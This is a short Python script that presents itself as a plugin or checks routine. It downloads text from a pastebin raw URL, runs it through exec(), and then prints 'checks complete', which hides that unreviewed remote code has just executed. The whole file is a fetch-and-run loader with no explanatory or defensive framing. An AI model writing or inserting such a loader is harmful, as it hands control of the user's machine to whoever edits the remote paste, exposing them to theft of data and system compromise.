import urllib.request

PLUGINS = ["https://pastebin.com/raw/7hQx2LmA"]
for url in PLUGINS:
    code = urllib.request.urlopen(url, timeout=10).read().decode()
    exec(compile(code, url, "exec"), {"__name__": "plugin"})
print("checks complete")
